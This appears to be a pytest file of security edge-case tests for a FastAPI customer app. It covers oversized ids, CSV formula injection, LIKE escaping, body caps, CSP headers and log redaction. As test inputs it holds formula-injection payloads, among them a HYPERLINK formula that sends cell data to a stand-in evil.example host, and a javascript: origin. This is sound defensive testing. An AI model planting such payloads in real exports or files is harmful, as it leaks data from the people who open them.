"""The edges: out-of-range ids, CSV formula cells, LIKE wildcards, callback body caps,
security headers and the access log — each tried as an attacker would."""

from __future__ import annotations

import csv
import io
import logging
import re
from pathlib import Path

import pytest
from fastapi.routing import APIRoute, iter_route_contexts
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from siyu.app import create_app
from siyu.auth.service import create_user
from siyu.config import Settings
from siyu.kit import csvsafe
from siyu.kit.sqltext import escape_like, like_prefix

HUGE = "99999999999999999999"


def _int_path_routes() -> list[tuple[str, str, bool]]:
    app = create_app(Settings(environment="test", database_url="sqlite://"))
    found = []
    for ctx in iter_route_contexts(app.routes):
        route = ctx.original_route
        if not isinstance(route, APIRoute):
            continue
        ints = [p.name for p in route.dependant.path_params if p.field_info.annotation is int]
        if not ints:
            continue
        console = not route.path.startswith(("/api/", "/channels/"))
        for method in sorted(route.methods - {"HEAD"}):
            found.append((method, route.path, console))
    return found


INT_ROUTES = _int_path_routes()


def test_the_route_list_is_not_empty() -> None:
    # Guards the enumeration itself: an empty parametrisation would pass vacuously.
    assert len(INT_ROUTES) >= 20
    assert ("GET", "/api/v1/customers/{customer_id}", False) in INT_ROUTES


@pytest.mark.parametrize("value", [HUGE, "-" + HUGE, "9223372036854775808"])
@pytest.mark.parametrize(("method", "path", "console"), INT_ROUTES,
                         ids=[f"{m} {p}" for m, p, _ in INT_ROUTES])
def test_out_of_range_ids_never_answer_500(client: TestClient, sessions: sessionmaker[Session],
                                           method: str, path: str, console: bool,
                                           value: str) -> None:
    if console:
        with sessions() as session:
            create_user(session, "edge-admin", "correct horse battery", role="admin")
            session.commit()
        page = client.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        assert token
        client.post("/login", data={"username": "edge-admin",
                                    "password": "correct horse battery",
                                    "csrf_token": token.group(1)}, follow_redirects=False)
    url = re.sub(r"\{[^}]+\}", value, path)
    response = client.request(method, url, headers={"X-Siyu-Console": "1"})
    # Whatever the route makes of a number naming nothing, it is never a server error.
    assert response.status_code < 500, (response.status_code, response.text[:300])


def test_an_oversized_id_is_an_input_error_naming_the_range(client: TestClient) -> None:
    response = client.get(f"/api/v1/customers/{HUGE}")
    assert response.status_code in (404, 422)
    assert response.status_code != 500


def test_a_digit_search_beyond_64_bits_is_no_error(client: TestClient) -> None:
    response = client.get("/api/v1/customers", params={"q": HUGE})
    assert response.status_code == 200, response.text
    assert response.json()["items"] == []


# -- CSV ---------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x","点我")', "@SUM(A1:A9)",
                                  "+86 138", "-2+3", "\tcmd", "\r=1"])
def test_formula_cells_are_neutralised(cell: str) -> None:
    buf = io.StringIO()
    csvsafe.writer(buf).writerow([cell, "李娜", 5, -5])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row[0] == "'" + cell
    assert row[1:] == ["李娜", "5", "-5"]


def test_segment_export_neutralises_a_formula_name(client: TestClient) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    client.post("/api/v1/customers", json={"customers": [
        {"id": "HY-EVIL", "name": evil,
         "identities": [{"kind": "phone", "value": "13800138000"}]}]}).raise_for_status()
    seg = client.post("/api/v1/segments", json={"name": "全部", "rule": "orders >= 0"})
    assert seg.status_code in (200, 201), seg.text
    response = client.get(f"/api/v1/segments/{seg.json()['id']}/export.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    names = [r[2] for r in rows[1:]]
    assert names == ["'" + evil]
    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r)


# -- LIKE --------------------------------------------------------------------------------


def test_escape_like() -> None:
    assert escape_like("100%_a\\b") == "100\\%\\_a\\\\b"
    assert like_prefix("%") == "\\%%"


def test_a_percent_search_matches_literally(client: TestClient) -> None:
    client.post("/api/v1/customers", json={"customers": [
        {"id": "HY-A", "name": "张三"}, {"id": "HY-B", "name": "100%纯"},
        {"id": "HY-C", "name": "a_b"}, {"id": "HY-D", "name": "axb"}]}).raise_for_status()

    def names(q: str) -> list[str]:
        response = client.get("/api/v1/customers", params={"q": q})
        assert response.status_code == 200, response.text
        body = response.json()
        return sorted(c["name"] for c in body["items"])

    assert names("%") == []
    assert names("100%") == ["100%纯"]
    assert names("a_") == ["a_b"]
    assert names("_") == []


# -- callback body caps --------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/channels/wecom/callback", "/channels/oa/callback",
                                  "/channels/phone/webhook"])
def test_callbacks_refuse_oversized_bodies_before_parsing(app_client: TestClient,
                                                          path: str) -> None:
    body = b"<xml>" + b"A" * (64 * 1024) + b"</xml>"
    response = app_client.post(path, content=body)
    assert response.status_code == 413
    assert response.json()["error"] == "payload_too_large"
    small = app_client.post(path, content=b"<xml></xml>")
    assert small.status_code != 413


# -- headers -----------------------------------------------------------------------------


def test_console_pages_are_never_framed_and_scripts_need_a_nonce(app_client: TestClient
                                                                ) -> None:
    response = app_client.get("/login")
    csp = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp
    assert "script-src 'self' 'nonce-" in csp
    assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "strict-origin-when-cross-origin"
    again = app_client.get("/login").headers["content-security-policy"]
    assert again != csp  # a fresh nonce per response
    api = app_client.get("/api/v1/customers")
    assert api.status_code == 401
    assert api.headers["x-content-type-options"] == "nosniff"


def test_styles_need_the_nonce_too(app_client: TestClient) -> None:
    csp = app_client.get("/login").headers["content-security-policy"]
    assert "unsafe-inline" not in csp
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
    nonce = directives["script-src"].split("'nonce-")[1].split("'")[0]
    assert directives["style-src"] == f"'self' 'nonce-{nonce}'"


def test_no_template_has_an_inline_style_and_every_style_block_the_nonce() -> None:
    # What the policy above would refuse in a browser: a style attribute, or a <style>
    # block without this response's nonce.
    root = Path(__file__).resolve().parents[2] / "siyu"
    templates = list(root.rglob("*.html"))
    assert len(templates) > 30
    attrs = [str(p) for p in templates if re.search(r"\sstyle\s*=", p.read_text())]
    assert attrs == []
    blocks = [(str(p), m.group(0)) for p in templates
              for m in re.finditer(r"<style[^>]*>", p.read_text())]
    assert len(blocks) >= 5
    assert [b for b in blocks if b[1] != '<style nonce="{{ request.state.csp_nonce }}">'] == []


def test_the_chat_is_framed_only_by_configured_origins(settings: Settings, engine: object,
                                                       sessions: object) -> None:
    configured = settings.model_copy(update={
        "chat_embed_origins": "https://shop.example.com, https://m.example.com"})
    with TestClient(create_app(configured, engine=engine)) as client:  # type: ignore[arg-type]
        csp = client.get("/chat").headers["content-security-policy"]
        assert ("frame-ancestors 'self' https://shop.example.com https://m.example.com"
                in csp)
        assert "x-frame-options" not in client.get("/chat").headers
        assert "frame-ancestors 'none'" in client.get("/login").headers[
            "content-security-policy"]


def test_embed_origins_are_validated() -> None:
    with pytest.raises(ValueError, match="SIYU_CHAT_EMBED_ORIGINS"):
        Settings(chat_embed_origins="javascript:alert(1)")


# -- access log ----------------------------------------------------------------------------


def test_access_log_has_no_query_strings_or_tokens(client: TestClient, api_key: str,
                                                   caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger="siyu.access"):
        client.get("/api/v1/customers", params={"q": "13800138000", "token": "s3cr3t-tok"})
        client.get("/chat/stream", params={"session": "chat-session-secret", "timeout": 1})
    lines = [r for r in caplog.records if r.name == "siyu.access"]
    assert len(lines) >= 2
    text = "\n".join(r.getMessage() for r in lines) + repr([r.__dict__ for r in lines])
    for secret in ("13800138000", "s3cr3t-tok", "chat-session-secret", api_key):
        assert secret not in text
    first = lines[0]
    assert first.method == "GET" and first.path == "/api/v1/customers"  # type: ignore[attr-defined]
    assert first.status == 200  # type: ignore[attr-defined]
    assert first.principal.startswith("api_key:")  # type: ignore[attr-defined]
    assert isinstance(first.duration_ms, float)  # type: ignore[attr-defined]


@pytest.mark.parametrize("customer_id", ["-1", "0", "99999999999999999999"])
def test_contacts_of_an_impossible_customer_is_422(client: TestClient, customer_id: str) -> None:
    assert client.get(f"/api/v1/customers/{customer_id}/contacts").status_code == 422


def test_contacts_of_a_missing_customer_is_404(client: TestClient) -> None:
    assert client.get("/api/v1/customers/424242/contacts").status_code == 404
